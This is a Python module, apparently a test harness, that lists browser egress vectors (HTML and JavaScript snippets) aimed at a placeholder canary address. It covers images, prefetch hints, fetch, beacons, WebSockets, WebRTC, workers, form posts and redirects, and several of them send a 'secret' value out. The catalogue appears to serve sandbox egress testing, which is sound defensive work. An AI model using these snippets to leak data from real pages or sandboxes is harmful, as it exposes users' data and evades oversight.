"""The ways out of a browser that the canary's pages try.

`$url` is the vector's own address and port as a URL, `$host` the same without a scheme, `$name` its name and port,
`$origin` the site with the page.
"""

from __future__ import annotations

from types import MappingProxyType
from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Mapping

NOTHING: Mapping[str, str] = MappingProxyType({})


class Vector(NamedTuple):
    """One way out."""

    name: str
    page: str  # on which it stands; those of one page are tried at once, and "open" opens the other pages
    html: str
    works: bool = True  # in a headless Chromium by itself, without switches; the control must be hit
    headers: Mapping[str, str] = NOTHING
    files: Mapping[str, str] = NOTHING  # more files of the site: path -> text


def _script(name: str, code: str, page: str = "scripts", **more: bool | Mapping[str, str]) -> Vector:
    guarded = f"<script>(async () => {{ {code} }})().catch(console.log)</script>"
    return Vector(name, page, guarded, **more)  # type: ignore[arg-type]


def _worker(name: str, code: str, kind: str = "Worker") -> Vector:
    return _script(name, f"new {kind}(URL.createObjectURL(new Blob([`{code}`])))", "workers")


MARKUP = (
    Vector("image", "open", '<img src="$url.png">'),
    Vector("image set", "open", '<picture><source srcset="$url.webp 1x"><img></picture>'),
    Vector("script", "open", '<script src="$url.js"></script>'),
    Vector("module", "open", '<script type="module" src="$url.js"></script>'),
    Vector(
        "import map", "import-map",
        '<script type="importmap">{"imports": {"out": "$url.js"}}</script><script type="module">import "out"</script>',
    ),
    Vector("stylesheet", "open", '<link rel="stylesheet" href="$url.css">'),
    Vector("css import", "open", '<style>@import url("$url.css");</style>'),
    Vector("css image", "open", '<p style="background: url($url.png)">text</p>'),
    Vector(
        "font", "open",
        "<style>@font-face { font-family: out; src: url($url.woff2) }</style><p style='font-family: out'>text</p>",
    ),
    Vector("frame", "open", '<iframe src="$url"></iframe>'),
    Vector("object", "open", '<object data="$url.svg" type="image/svg+xml"></object>'),
    Vector("embed", "open", '<embed src="$url.svg" type="image/svg+xml">'),
    Vector("video", "open", '<video src="$url.mp4" preload="auto"></video>'),
    Vector("poster", "open", '<video poster="$url.png"></video>'),
    Vector("audio", "open", '<audio src="$url.mp3" preload="auto"></audio>'),
    Vector(
        "track", "open",
        '<video src="data:video/mp4," crossorigin><track src="$url.vtt" kind="captions" default></video>',
    ),
    Vector("input image", "open", '<input type="image" src="$url.png">'),
    Vector("svg image", "open", '<svg><image href="$url.png" width="9" height="9"></image></svg>'),
    Vector("icon", "open", '<link rel="icon" href="$url.png">', works=False),  # headless tabs show none
    # Browsers look for it in <head> only. Headless tabs load it when a client asks.
    _script(
        "manifest",
        """document.head.insertAdjacentHTML('beforeend', '<link rel="manifest" href="$url.json">')""",
        "open",
        works=False,
    ),
)  # fmt: skip

HINTS = (
    Vector("prefetch", "open", '<link rel="prefetch" href="$url">'),
    Vector("preload", "open", '<link rel="preload" as="script" href="$url.js">'),
    Vector("module preload", "open", '<link rel="modulepreload" href="$url.js">'),
    Vector("preconnect", "open", '<link rel="preconnect" href="http://$host">'),
    Vector("dns-prefetch", "open", '<link rel="dns-prefetch" href="http://$name">'),
    Vector("preconnect by name", "open", '<link rel="preconnect" href="http://$name">'),
    Vector("link header", "open", "", headers={"Link": "<$url.js>; rel=preload; as=script"}),
    Vector(
        "speculative prefetch", "open",
        '<script type="speculationrules">{"prefetch": [{"urls": ["$url"], "eagerness": "immediate"}]}</script>',
    ),
    Vector(
        "prerender", "open",
        '<script type="speculationrules">{"prerender": [{"urls": ["/prerendered"], "eagerness": "immediate"}]}'
        "</script>",
        files={"/prerendered": '<!doctype html><title>prerendered</title><img src="$url.png">'},
    ),
)  # fmt: skip

SCRIPTS = (
    _script("fetch", "await fetch('$url')"),
    _script("fetch by name", "await fetch('http://$name')"),
    _script("fetch post", "await fetch('$url', {method: 'POST', mode: 'no-cors', body: 'secret'})"),
    _script("fetch keepalive", "await fetch('$url', {keepalive: true, mode: 'no-cors'})"),
    _script("fetch later", "fetchLater('$url', {activateAfter: 0})"),
    _script("xhr", "const x = new XMLHttpRequest(); x.open('GET', '$url'); x.send()"),
    _script("beacon", "navigator.sendBeacon('$url', 'secret')"),
    _script("eventsource", "new EventSource('$url')"),
    _script("websocket", "new WebSocket('ws://$host/')"),
    _script("websocket by name", "new WebSocket('ws://$name/')"),
    _script("webtransport", "new WebTransport('https://$host/').ready"),
    _script("new image", "new Image().src = '$url.png'"),
    _script("dynamic import", "await import('$url.js')"),
    _script("audio worklet", "await new AudioContext().audioWorklet.addModule('$url.js')"),
    _script("paint worklet", "await CSS.paintWorklet.addModule('$url.js')"),
    _script("font face", "await new FontFace('own', 'url($url.woff2)').load()"),
    _script(
        "ping",
        "const a = document.createElement('a'); a.ping = '$url'; a.href = '#here'; document.body.append(a); a.click()",
    ),
    Vector(
        "csp report", "reports", '<img src="data:image/png,">',
        headers={"Content-Security-Policy-Report-Only": "img-src 'none'; report-uri $url"},
    ),
    Vector(
        "reporting", "reports", "", works=False,  # HTTPS only
        headers={
            "Reporting-Endpoints": 'default="$url"',
            "Document-Policy": "document-write=?0;report-to=default",
            "NEL": '{"report_to": "default", "max_age": 60, "success_fraction": 1}',
        },
    ),
)  # fmt: skip

PEER = "const peer = new RTCPeerConnection({iceServers: [%s]}); peer.createDataChannel('x');"
OFFER = "await peer.setLocalDescription(await peer.createOffer());"
CANDIDATE = """
    const other = new RTCPeerConnection();
    await other.setRemoteDescription(peer.localDescription);
    await other.setLocalDescription(await other.createAnswer());
    await peer.setRemoteDescription(other.localDescription);
    await peer.addIceCandidate({candidate: 'candidate:1 1 udp 2122260223 $address $port typ host', sdpMid: '0'});
"""
TURN = "{urls: 'turn:$host?transport=tcp', username: 'u', credential: 'c'}"
PEERS = (
    _script("stun", PEER % "{urls: 'stun:$host'}" + OFFER, "peers"),
    _script("stun by name", PEER % "{urls: 'stun:$name'}" + OFFER, "peers"),
    _script("turn over tcp", PEER % TURN + OFFER, "peers"),
    _script("peer candidate", PEER % "" + OFFER + CANDIDATE, "peers"),
)

WORKERS = (
    _worker("worker", "fetch('$url')"),
    _worker("worker import", "importScripts('$url.js')"),
    _worker("worker websocket", "new WebSocket('ws://$host/')"),
    _worker("shared worker", "fetch('$url')", "SharedWorker"),
    _worker("shared worker websocket", "new WebSocket('ws://$host/')", "SharedWorker"),
    _script(
        "service worker", "await navigator.serviceWorker.register('/service-worker.js')", "workers",
        files={"/service-worker.js": "oninstall = event => event.waitUntil(fetch('$url', {mode: 'no-cors'}))"},
    ),
)  # fmt: skip

NAVIGATIONS = (
    Vector("meta refresh", "meta-refresh", '<meta http-equiv="refresh" content="0;url=$url">'),
    Vector("refresh header", "refresh-header", "", headers={"Refresh": "0;url=$url"}),
    _script("location", "location.href = '$url'", "location"),
    Vector(
        "framed refresh", "frames",
        """<iframe srcdoc='<meta http-equiv="refresh" content="0;url=$url">'></iframe>""",
    ),
    Vector(
        "form", "form",
        '<form method="post" action="$url"><input name="a" value="secret"></form>'
        "<script>document.forms[0].submit()</script>",
    ),
    Vector(
        "framed form", "frames",
        '<iframe name="out"></iframe><form target="out" method="post" action="$url"></form>'
        "<script>document.forms[0].submit()</script>",
    ),
    _script("popup", "window.open('$url')", "popup"),
    Vector(
        "popup of the site", "popup", "<script>window.open('/popup-page')</script>",
        files={"/popup-page": "<!doctype html><script>new WebSocket('ws://$host/'); fetch('$url')</script>"},
    ),
    Vector(
        "noopener popup", "popup",
        '<a id="out" href="$url" target="_blank" rel="noopener">x</a><script>document.links.out.click()</script>',
    ),
    Vector("blank popup", "popup", "<script>window.open('').document.write('<img src=\"$url.png\">')</script>"),
    Vector(
        "download", "download",
        '<a id="file" href="$url.zip" download>x</a><script>document.links.file.click()</script>',
    ),
    _script(
        "last words",
        "addEventListener('pagehide', () => navigator.sendBeacon('$url')); location.href = 'about:blank'", "last-words",
    ),
)  # fmt: skip

VECTORS = (*MARKUP, *HINTS, *SCRIPTS, *PEERS, *WORKERS, *NAVIGATIONS)
